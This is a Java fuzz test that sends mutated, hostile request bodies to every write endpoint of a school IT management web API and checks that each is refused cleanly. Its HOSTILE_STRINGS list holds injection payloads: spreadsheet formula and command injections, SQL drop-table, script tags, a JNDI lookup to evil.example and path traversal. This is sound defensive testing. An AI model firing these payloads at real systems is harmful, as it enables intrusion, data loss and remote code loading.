package org.entente.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.entente.TestAccounts.as;

import java.io.ByteArrayOutputStream;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BiFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.entente.EntenteTest;
import org.entente.TestDatabases;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.core.MethodParameter;
import org.springframework.http.HttpMethod;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile input over every API write that reads a body (listed from the handler mappings, so a new intake cannot be
 * forgotten): a valid body per intake (written below for the raw and loosely typed ones, generated from the
 * {@code @RequestBody} type for the others) is mutated by a seeded generator (truncation, wrong types, huge numbers,
 * deep nesting, invalid UTF-8, BOMs, formula injections, nulls, duplicate keys, oversized fields, random bytes). The
 * bar: every answer is a 2xx or a 4xx problem document ({@code application/problem+json} with a detail), never a
 * 5xx; a refused import (and any dry run) leaves its tables' row counts unchanged.
 * <p>
 * The seed is fixed ({@code entente.fuzz.seed}, 17) so that CI replays the same corpus; each finding names the seed,
 * the case and the mutation. {@code -Dentente.fuzz.cases=N} runs N cases per intake instead of {@link #CI_CASES}.
 * <p>
 * On a database of its own: the valid cases really create assets, tickets and purchases, which other classes that
 * share the common context would then count (in CI a hundred fuzz assets pushed a collège past its référentiel and
 * off an agent test's first page).
 */
@EntenteTest
@DirtiesContext
class HostileInputFuzzTests {

	@DynamicPropertySource
	static void ownDatabase(DynamicPropertyRegistry registry) {
		TestDatabases.isolate(registry, "hostile_fuzz");
	}

	static final long SEED = Long.getLong("entente.fuzz.seed", 17L);

	/** Cases per intake in CI: 58 intakes, about 175 requests (each intake draws its own mutations). */
	static final int CI_CASES = 3;

	static final int CASES = Integer.getInteger("entente.fuzz.cases", CI_CASES);

	static final JsonMapper JSON = JsonMapper.builder().build();

	static final JsonNodeFactory NODES = JsonNodeFactory.instance;

	static final AtomicInteger REQUESTS = new AtomicInteger();

	static final AtomicInteger FINDINGS = new AtomicInteger();

	static long started = System.nanoTime();

	static final String ASSET_CSV = "uai,component,network,name,serial,manufacturer,model,funding,acquired,warrantyEnd,status\n"
			+ "0359901X,VIDEOPROJECTEURS,PEDAGOGICAL,VP-FUZZ,FUZZ-SERIAL,Epson,EB,CD,2024-01-01,2027-01-01,IN_SERVICE\n";

	static final String IDENTITY_CSV = "guuid,uid,lastName,firstName,civility,birthDate,status,function,uai,class,department\n"
			+ "G-fuzz,fuzz.eleve,Durand,Léa,MME,2012-03-04,PUPIL,,0359901X,5e B,\n";

	/** A valid body (content type, text) for the intakes whose body is raw or a JsonNode. */
	static final Map<String, Seed> SEEDS = new LinkedHashMap<>();

	record Seed(String contentType, String body, String query, List<String> tables, boolean dryRun) {
	}

	static {
		SEEDS.put("POST /api/v1/assets/import", new Seed("text/csv", ASSET_CSV, "dryRun=false", List.of("inv_asset", "inv_asset_change"), false));
		SEEDS.put("POST /api/v1/establishments/import", new Seed("text/csv",
				"uai,name,commune,kind\n0359977Z,Collège Fuzz,Rennes,COLLEGE\n", "dryRun=false", List.of("establishment"), false));
		SEEDS.put("POST /api/v1/establishments/network-ranges", new Seed("text/csv",
				"uai,reseau,libelle\n0359901X,10.98.17.0/24,fuzz\n", "dryRun=true", List.of("establishment_network_range"), true));
		SEEDS.put("POST /api/v1/accounts/import", new Seed("text/csv",
				"username,displayName,email,role\nfuzz.import,Fuzz Import,fuzz.import@example.org,COLLEGE\n", "dryRun=true",
				List.of("account", "directory_account_change"), true));
		SEEDS.put("POST /api/v1/privacy/identities/import", new Seed("text/csv", IDENTITY_CSV, "mode=partial&dryRun=true",
				List.of("privacy_identity", "privacy_import"), true));
		SEEDS.put("POST /api/v1/backups/reports", new Seed("application/json", """
				{"uai":"0359901X","dataClass":"ADMINISTRATIVE","job":"fuzz","startedAt":"2026-12-01T02:00:00+01:00","endedAt":"2026-12-01T03:00:00+01:00","status":"SUCCESS","oldestRestorePoint":"2026-11-20T03:00:00+01:00"}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/security/incidents", new Seed("application/json", """
				{"establishments":["0359901X"],"component":"STATIONS_PEDAGOGIQUES","title":"Fuzz","description":"Message suspect.","detectedAt":"2026-03-14T09:30:00+01:00","personalData":false}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/security/breaches", new Seed("application/json",
				"{\"awareAt\":\"2026-11-30T10:00:00+01:00\",\"nature\":\"Ordinateur portable volé\"}", null, List.of(), false));
		SEEDS.put("POST /api/v1/webhooks", new Seed("application/json",
				"{\"url\": \"http://hooks.example.org/fuzz\", \"events\": [\"ticket.opened\"]}", null, List.of("webhook_endpoint"), false));
		SEEDS.put("POST /api/v1/policies/{code}/versions", new Seed("application/json",
				"{\"title\":\"Fuzz\",\"summary\":\"résumé\",\"effectiveOn\":\"2026-09-01\",\"link\":\"https://example.org/p.pdf\"}", null, List.of(), false));
		SEEDS.put("POST /api/v1/inventory/glpi-agent", new Seed("application/json", """
				{"action":"inventory","deviceid":"fuzz-2026-12-01-10-00-00","itemtype":"Computer","content":{"hardware":{"name":"PC-FUZZ"},"bios":{"ssn":"FUZZ-BIOS"}}}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/convention/versions", new Seed("application/yaml", "version: 1\nparties: [CD]\n", null,
				List.of("convention_version"), false));
		SEEDS.put("POST /api/v1/tickets", new Seed("application/json", """
				{"establishment":"0359901X","title":"Fuzz","description":"Plus rien ne marche depuis ce matin.","component":"ADDUCTION_INTERNET","intervention":"REPAIR"}""",
				null, List.of(), false));
		SEEDS.put("POST /api/v1/inventory/referentiel", new Seed("application/json", """
				{"note":"fuzz","lines":[{"component":"INCONNU-FUZZ","kind":"Vidéoprojecteur","lifetimeYears":7}]}""", null,
				List.of("inv_referentiel", "inv_referentiel_line"), false));
	}

	/** The account that reaches furthest into each API area (the others would stop at 403). */
	static final Map<String, String> USERS = new LinkedHashMap<>();

	static {
		USERS.put("/api/v1/tickets", "college");
		USERS.put("/api/v1/assets", "agent.cd");
		USERS.put("/api/v1/inventory/glpi-agent", "glpi-agent");
		USERS.put("/api/v1/backups", "glpi-agent");
		USERS.put("/api/v1/inventory", "agent.cd");
		USERS.put("/api/v1/security", "rssi");
		USERS.put("/api/v1/privacy/identities", "dpo");
		USERS.put("/api/v1/privacy", "dpd");
		USERS.put("/api/v1/policies", "agent.aca");
		USERS.put("/api/v1/byod", "agent.cd");
		USERS.put("/api/v1/governance", "gestion.cd");
	}

	/** Writes left out, with the reason. */
	static final Map<String, String> SKIPPED = Map.of("POST /api/v1/privacy/register",
			"a processing created there (generated bodies say feedsIdentities) blocks every identity import of the shared context until its copy is sent: fuzzed by PUT /api/v1/privacy/register/{id} on a missing id",
			"POST /api/v1/privacy/purges",
			"runs the purge: it reads no body (AccessMatrixTests leaves it out too)", "POST /api/v1/reporting/rebuild",
			"recounts the aggregates: it reads no body");

	static final Map<String, String> MISSING = Map.of("id", "999999999", "uai", "0999999Z", "username", "inconnu.fuzz",
			"code", "INCONNU", "number", "999999", "year", "1999", "uid", "inconnu.fuzz", "actionId", "999999999",
			"month", "1999-01");

	private static final Pattern VARIABLE = Pattern.compile("\\{\\*?([A-Za-z0-9_]+)(:[^}]*)?\\}");

	@Autowired
	MockMvcTester mvc;

	@Autowired
	ApplicationContext context;

	@Autowired
	JdbcTemplate jdbc;

	record Intake(HttpMethod method, String pattern, String contentType, String body, String query, List<String> tables,
			boolean dryRun) {

		String key() {
			return method + " " + pattern;
		}

		boolean csv() {
			return contentType.contains("csv");
		}

		boolean json() {
			return contentType.contains("json");
		}
	}

	@TestFactory
	Stream<DynamicTest> everyIntakeRefusesHostileBodiesWithAProblem() {
		started = System.nanoTime();
		List<Intake> intakes = intakes();
		System.out.println("HostileInputFuzzTests: " + intakes.size() + " intakes, " + CASES + " cases each, entente.fuzz.seed=" + SEED);
		assertThat(intakes).hasSizeGreaterThan(40);
		return intakes.stream().map(i -> DynamicTest.dynamicTest(i.key(), () -> fuzz(i)));
	}

	@AfterAll
	static void report() {
		System.out.printf("HostileInputFuzzTests: %d requests, %d findings, %.1f s, entente.fuzz.seed=%d%n", REQUESTS.get(),
				FINDINGS.get(), (System.nanoTime() - started) / 1e9, SEED);
	}

	private void fuzz(Intake intake) throws Exception {
		List<String> findings = new ArrayList<>();
		for (int n = 0; n < CASES; n++) {
			Random random = new Random(SEED * 1_000_003 + intake.key().hashCode() * 31L + n);
			Mutation m = MUTATIONS.get(random.nextInt(MUTATIONS.size()));
			byte[] body = m.apply(intake, random);
			Map<String, Long> before = counts(intake.tables());
			MvcTestResult r = send(intake, body);
			int status = r.getResponse().getStatus();
			String text = new String(r.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
			String where = "entente.fuzz.seed=" + SEED + " case " + n + " mutation " + m.name() + " body "
					+ excerpt(body) + " -> " + status + " " + excerpt(text.getBytes(StandardCharsets.UTF_8));
			if (status >= 500) {
				findings.add(where);
			}
			else if (status >= 400 && !isProblem(r, text)) {
				findings.add("not a problem document (" + r.getResponse().getContentType() + "): " + where);
			}
			if ((status >= 400 || intake.dryRun()) && !intake.tables().isEmpty()) {
				Map<String, Long> after = counts(intake.tables());
				if (!after.equals(before)) {
					findings.add("rows changed " + before + " -> " + after + ": " + where);
				}
			}
		}
		FINDINGS.addAndGet(findings.size());
		assertThat(findings).as(intake.key()).isEmpty();
	}

	private static boolean isProblem(MvcTestResult r, String text) {
		String type = r.getResponse().getContentType();
		if (type == null || !MediaType.parseMediaType(type).isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)) {
			return false;
		}
		try {
			JsonNode node = JSON.readTree(text);
			JsonNode detail = node.get("detail");
			return node.has("status") && detail != null && !detail.asString().isBlank();
		}
		catch (RuntimeException e) {
			return false;
		}
	}

	private Map<String, Long> counts(List<String> tables) {
		Map<String, Long> counts = new TreeMap<>();
		for (String t : tables) {
			counts.put(t, jdbc.queryForObject("select count(*) from " + t, Long.class));
		}
		return counts;
	}

	private MvcTestResult send(Intake intake, byte[] body) {
		REQUESTS.incrementAndGet();
		Matcher m = VARIABLE.matcher(intake.pattern());
		StringBuilder uri = new StringBuilder();
		while (m.find()) {
			m.appendReplacement(uri, Matcher.quoteReplacement(MISSING.getOrDefault(m.group(1), "999999999")));
		}
		m.appendTail(uri);
		if (intake.query() != null) {
			uri.append('?').append(intake.query());
		}
		String user = USERS.entrySet().stream().filter(e -> intake.pattern().startsWith(e.getKey())).map(Map.Entry::getValue)
			.findFirst().orElse("admin");
		return mvc.method(intake.method()).uri(uri.toString()).contentType(intake.contentType()).content(body)
			.with(as(user)).exchange();
	}

	// --- mutations ---

	record Mutation(String name, BiFunction<Intake, Random, byte[]> how) {

		byte[] apply(Intake intake, Random random) {
			return how.apply(intake, random);
		}
	}

	static final List<String> HOSTILE_STRINGS = List.of("=HYPERLINK(\"http://evil.example/\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
			"+1+1", "-2+3", "'; drop table ticket; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
			"\u0000", "\u202Egnp.exe", "\uFEFF", "\r\n\r\n", "../../../../etc/passwd", "%00", "\\u0000", "𝕱𝖚𝖟𝖟 😈",
			"9".repeat(400), "-0", "1e400", "NaN", "true", "null", "[]", "{}");

	static final List<Mutation> MUTATIONS = List.of(
			new Mutation("truncated", (i, r) -> {
				byte[] b = i.body().getBytes(StandardCharsets.UTF_8);
				return Arrays.copyOf(b, r.nextInt(Math.max(1, b.length)));
			}),
			new Mutation("wrong-type", (i, r) -> i.json() ? json(i, r, (node, rr) -> wrongType(node, rr)) : csvCell(i, r, "abc")),
			new Mutation("huge-number", (i, r) -> i.json() ? json(i, r, (node, rr) -> NODES.numberNode(new java.math.BigInteger("9".repeat(400))))
					: csvCell(i, r, pick(r, "99999999999999999999999999", "1e400", "-9223372036854775809"))),
			new Mutation("deep-nesting", (i, r) -> {
				int depth = 600 + r.nextInt(5_000);
				String deep = "[".repeat(depth) + "]".repeat(depth);
				return i.json() ? replaceFirstValue(i.body(), deep) : (i.body() + deep + "\n").getBytes(StandardCharsets.UTF_8);
			}),
			new Mutation("invalid-utf8", (i, r) -> {
				byte[] b = i.body().getBytes(StandardCharsets.UTF_8);
				int at = insideText(i.body(), r);
				byte[][] bad = { { (byte) 0xC3, 0x28 }, { (byte) 0xFF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
						{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 } };
				return splice(b, at, bad[r.nextInt(bad.length)]);
			}),
			new Mutation("bom", (i, r) -> {
				byte[] bom = r.nextBoolean() ? new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }
						: new byte[] { (byte) 0xFE, (byte) 0xFF };
				return splice(i.body().getBytes(StandardCharsets.UTF_8), 0, bom);
			}),
			new Mutation("hostile-string", (i, r) -> {
				String s = HOSTILE_STRINGS.get(r.nextInt(HOSTILE_STRINGS.size()));
				return i.json() ? json(i, r, (node, rr) -> NODES.stringNode(s)) : csvCell(i, r, s);
			}),
			new Mutation("null", (i, r) -> i.json() ? (r.nextInt(4) == 0 ? "null".getBytes(StandardCharsets.UTF_8)
					: json(i, r, (node, rr) -> NODES.nullNode())) : csvCell(i, r, "")),
			new Mutation("duplicate-key", (i, r) -> {
				if (i.json() && i.body().trim().startsWith("{") && i.body().contains("\":")) {
					String key = i.body().substring(i.body().indexOf('"'), i.body().indexOf("\":") + 2);
					return i.body().trim().replaceFirst("\\{", Matcher.quoteReplacement("{" + key + "[1,{\"x\":2}],"))
						.getBytes(StandardCharsets.UTF_8);
				}
				String[] lines = i.body().split("\n", 2);
				return (lines[0] + "," + lines[0].split(",")[0] + "\n" + (lines.length > 1 ? lines[1] : ""))
					.getBytes(StandardCharsets.UTF_8);
			}),
			new Mutation("oversized-field", (i, r) -> {
				String big = "é".repeat(12_000 + r.nextInt(20_000));
				return i.json() ? json(i, r, (node, rr) -> NODES.stringNode(big)) : csvCell(i, r, big);
			}),
			new Mutation("random-bytes", (i, r) -> {
				byte[] b = new byte[r.nextInt(2048)];
				r.nextBytes(b);
				return b;
			}),
			new Mutation("empty", (i, r) -> new byte[0]),
			new Mutation("many-lines", (i, r) -> {
				StringBuilder sb = new StringBuilder(i.body());
				if (i.json()) {
					return ("[" + (i.body() + ",").repeat(100 + r.nextInt(300)) + "{}]").getBytes(StandardCharsets.UTF_8);
				}
				String line = i.body().split("\n")[1];
				for (int k = 0, n = 100 + r.nextInt(300); k < n; k++) {
					sb.append(line.replace("FUZZ", "FZ" + k).replace("fuzz", "fz" + k)).append(r.nextBoolean() ? "\r\n" : "\n");
				}
				return sb.toString().getBytes(StandardCharsets.UTF_8);
			}),
			new Mutation("quote-chaos", (i, r) -> {
				String s = i.body();
				int at = insideText(s, r);
				String q = pick(r, "\"", "\"\"\"", "\\\"", "'", "\",\"", "\n\"");
				return (s.substring(0, at) + q + s.substring(at)).getBytes(StandardCharsets.UTF_8);
			}));

	private static String pick(Random r, String... values) {
		return values[r.nextInt(values.length)];
	}

	private static byte[] splice(byte[] b, int at, byte[] insert) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(b, 0, at);
		out.write(insert, 0, insert.length);
		out.write(b, at, b.length - at);
		return out.toByteArray();
	}

	/** A position inside the text (after the CSV header, inside the JSON), on a character boundary. */
	private static int insideText(String s, Random r) {
		int from = s.indexOf('\n') >= 0 && s.indexOf('\n') < s.length() - 1 ? s.indexOf('\n') + 1 : Math.min(1, s.length());
		String head = s.substring(0, from + r.nextInt(Math.max(1, s.length() - from)));
		return head.getBytes(StandardCharsets.UTF_8).length;
	}

	private static byte[] csvCell(Intake i, Random r, String value) {
		String[] lines = i.body().split("\n");
		String[] cells = lines[lines.length - 1].split(",", -1);
		String v = value.contains(",") || value.contains("\"") || value.contains("\n")
				? "\"" + value.replace("\"", "\"\"") + "\"" : value;
		cells[r.nextInt(cells.length)] = v;
		lines[lines.length - 1] = String.join(",", cells);
		return (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] replaceFirstValue(String body, String value) {
		int colon = body.indexOf(':');
		if (colon < 0 || !body.trim().startsWith("{")) {
			return value.getBytes(StandardCharsets.UTF_8);
		}
		int end = colon + 1;
		int depth = 0;
		boolean inString = false;
		for (; end < body.length(); end++) {
			char c = body.charAt(end);
			if (c == '"' && body.charAt(end - 1) != '\\') {
				inString = !inString;
			}
			else if (!inString && (c == '{' || c == '[')) {
				depth++;
			}
			else if (!inString && (c == '}' || c == ']')) {
				if (depth-- == 0) {
					break;
				}
			}
			else if (!inString && c == ',' && depth == 0) {
				break;
			}
		}
		return (body.substring(0, colon + 1) + value + body.substring(end)).getBytes(StandardCharsets.UTF_8);
	}

	/** The body with one node (picked at random among all) replaced. */
	private static byte[] json(Intake i, Random r, BiFunction<JsonNode, Random, JsonNode> replace) {
		JsonNode root = JSON.readTree(i.body());
		List<Object[]> slots = new ArrayList<>();
		collect(root, slots);
		if (slots.isEmpty()) {
			return JSON.writeValueAsBytes(replace.apply(root, r));
		}
		Object[] slot = slots.get(r.nextInt(slots.size()));
		JsonNode old = slot[0] instanceof ObjectNode o ? o.get((String) slot[1]) : ((ArrayNode) slot[0]).get((Integer) slot[1]);
		JsonNode now = replace.apply(old, r);
		if (slot[0] instanceof ObjectNode o) {
			o.set((String) slot[1], now);
		}
		else {
			((ArrayNode) slot[0]).set((Integer) slot[1], now);
		}
		return JSON.writeValueAsBytes(root);
	}

	private static void collect(JsonNode node, List<Object[]> slots) {
		if (node instanceof ObjectNode o) {
			for (String name : o.propertyNames()) {
				slots.add(new Object[] { o, name });
				collect(o.get(name), slots);
			}
		}
		else if (node instanceof ArrayNode a) {
			for (int k = 0; k < a.size(); k++) {
				slots.add(new Object[] { a, k });
				collect(a.get(k), slots);
			}
		}
	}

	private static JsonNode wrongType(JsonNode node, Random r) {
		if (node == null || node.isString()) {
			return r.nextBoolean() ? NODES.numberNode(42) : NODES.objectNode().put("x", 1);
		}
		if (node.isNumber() || node.isBoolean()) {
			return r.nextBoolean() ? NODES.stringNode("quarante-deux") : NODES.arrayNode().add(1);
		}
		if (node.isArray()) {
			return r.nextBoolean() ? NODES.stringNode("liste") : NODES.objectNode();
		}
		return r.nextBoolean() ? NODES.arrayNode().add("x") : NODES.numberNode(-1);
	}

	// --- the intakes, from the handler mappings ---

	private List<Intake> intakes() {
		List<Intake> all = new ArrayList<>();
		for (RequestMappingHandlerMapping mapping : context.getBeansOfType(RequestMappingHandlerMapping.class).values()) {
			for (Map.Entry<RequestMappingInfo, HandlerMethod> e : mapping.getHandlerMethods().entrySet()) {
				RequestMappingInfo info = e.getKey();
				HandlerMethod hm = e.getValue();
				for (String pattern : info.getPatternValues()) {
					if (!pattern.startsWith("/api/")) {
						continue;
					}
					for (RequestMethod rm : info.getMethodsCondition().getMethods()) {
						if (rm != RequestMethod.POST && rm != RequestMethod.PUT && rm != RequestMethod.PATCH) {
							continue;
						}
						HttpMethod method = rm.asHttpMethod();
						String key = method + " " + pattern;
						if (SKIPPED.containsKey(key)) {
							continue;
						}
						MediaType consumes = info.getConsumesCondition().getConsumableMediaTypes().stream()
							.filter(t -> !t.isWildcardType() && !t.isWildcardSubtype()).findFirst().orElse(null);
						if (consumes != null && consumes.isCompatibleWith(MediaType.MULTIPART_FORM_DATA)) {
							continue; // multipart bodies: ErrorShapesTests and the upload tests
						}
						Seed seed = SEEDS.get(key);
						if (seed != null && (consumes == null || MediaType.parseMediaType(seed.contentType()).isCompatibleWith(consumes))) {
							all.add(new Intake(method, pattern, seed.contentType(), seed.body(), seed.query(), seed.tables(), seed.dryRun()));
							continue;
						}
						MethodParameter body = Arrays.stream(hm.getMethodParameters())
							.filter(p -> p.hasParameterAnnotation(RequestBody.class)).findFirst().orElse(null);
						String type = consumes == null ? "application/json" : consumes.toString();
						String text = body == null ? "{}" : JSON.writeValueAsString(sample(body.getGenericParameterType(), 0));
						if (!type.contains("json")) {
							type = "application/json";
						}
						all.add(new Intake(method, pattern, type, text, null, List.of(), false));
					}
				}
			}
		}
		all.sort(Comparator.comparing(Intake::pattern).thenComparing(i -> i.method().name()));
		return all;
	}

	/** A plausible value of a Java type, for a body generated from the handler's {@code @RequestBody} type. */
	static Object sample(Type type, int depth) {
		if (type instanceof ParameterizedType p) {
			Class<?> raw = (Class<?>) p.getRawType();
			Type[] args = p.getActualTypeArguments();
			if (Collection.class.isAssignableFrom(raw)) {
				return List.of(sample(args[0], depth + 1));
			}
			if (Map.class.isAssignableFrom(raw)) {
				return Map.of("displayName", sample(args[1], depth + 1));
			}
			return sample(raw, depth);
		}
		if (!(type instanceof Class<?> c) || depth > 4) {
			return "fuzz";
		}
		if (c == String.class || c == Object.class || CharSequence.class.isAssignableFrom(c)) {
			return "fuzz";
		}
		if (c == int.class || c == Integer.class || c == long.class || c == Long.class || c == short.class) {
			return 1;
		}
		if (c == double.class || c == Double.class || c == java.math.BigDecimal.class || c == float.class) {
			return 1.5;
		}
		if (c == boolean.class || c == Boolean.class) {
			return false; // true would switch on options with effects on shared state
		}
		if (c.isEnum()) {
			return c.getEnumConstants()[0].toString();
		}
		if (c == java.time.LocalDate.class) {
			return "2026-09-01";
		}
		if (c == java.time.Instant.class || c == java.time.OffsetDateTime.class || c == java.time.ZonedDateTime.class) {
			return "2026-12-01T10:00:00Z";
		}
		if (c == java.time.LocalDateTime.class) {
			return "2026-12-01T10:00:00";
		}
		if (c == java.time.LocalTime.class) {
			return "10:00";
		}
		if (c == java.time.YearMonth.class) {
			return "2026-11";
		}
		if (c == java.time.Duration.class) {
			return "PT1H";
		}
		if (c == java.util.UUID.class) {
			return "f0f0f0f0-0000-4000-8000-000000000017";
		}
		if (c.isArray()) {
			return c.getComponentType() == byte.class ? "fuzz" : List.of(sample(c.getComponentType(), depth + 1));
		}
		if (JsonNode.class.isAssignableFrom(c) || Map.class.isAssignableFrom(c)) {
			return Map.of();
		}
		if (Collection.class.isAssignableFrom(c)) {
			return List.of();
		}
		Map<String, Object> fields = new LinkedHashMap<>();
		if (c.isRecord()) {
			for (RecordComponent rc : c.getRecordComponents()) {
				fields.put(rc.getName(), sample(rc.getGenericType(), depth + 1));
			}
		}
		else {
			for (var f : c.getDeclaredFields()) {
				if (!java.lang.reflect.Modifier.isStatic(f.getModifiers())) {
					fields.put(f.getName(), sample(f.getGenericType(), depth + 1));
				}
			}
		}
		return fields;
	}

	static String excerpt(byte[] b) {
		String s = new String(b, 0, Math.min(b.length, 160), StandardCharsets.UTF_8).replace("\n", "\\n");
		return b.length > 160 ? s + "…(" + b.length + " octets)" : s;
	}

}
